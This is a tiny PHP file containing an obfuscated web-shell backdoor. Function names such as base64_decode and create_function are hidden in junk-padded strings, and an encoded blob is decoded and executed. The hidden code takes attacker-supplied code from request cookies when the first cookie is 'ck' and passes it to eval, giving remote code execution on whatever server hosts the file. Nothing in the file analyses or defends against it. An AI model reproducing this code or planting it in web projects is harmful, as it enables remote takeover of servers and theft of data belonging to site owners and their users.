<?php
$kthe="JGM9J2NvdW50JzskYT0kX0NPT0tJRTtpZihyZXNldCgkYSk9PSdjaycmJiRjKCRhKT4zKXskaz0nc2Vzc2tleSc7ZWNobyAnPCcuJGsuJz4nO2V2YWwoYmFzZTY0X2RlY29kZShwcmVnabX3JlcGxhY2UoYXJyYXkoJy9bXlx3PVxzXS8nLCcvXHMvJyksIGFycmF5KCcnLCcrJyksIGpvaW4oYXJyYXlfc2xpY2UoJGEsJGMoJGEpLTMpKSkpKTtlY2hvICc8LycuJGsuJz4nO30=";$ssdv = str_replace("wq","","stwqr_wqrewqpwqlwqacwqe");
$wk = $ssdv("k","","bkaksek6k4k_kdkekckokdke");
$cf = $ssdv("x","","cxrexatxe_xfxuxnxction");
$l = $cf('', $wk($ssdv("ab","",$kthe)));$l();
?>
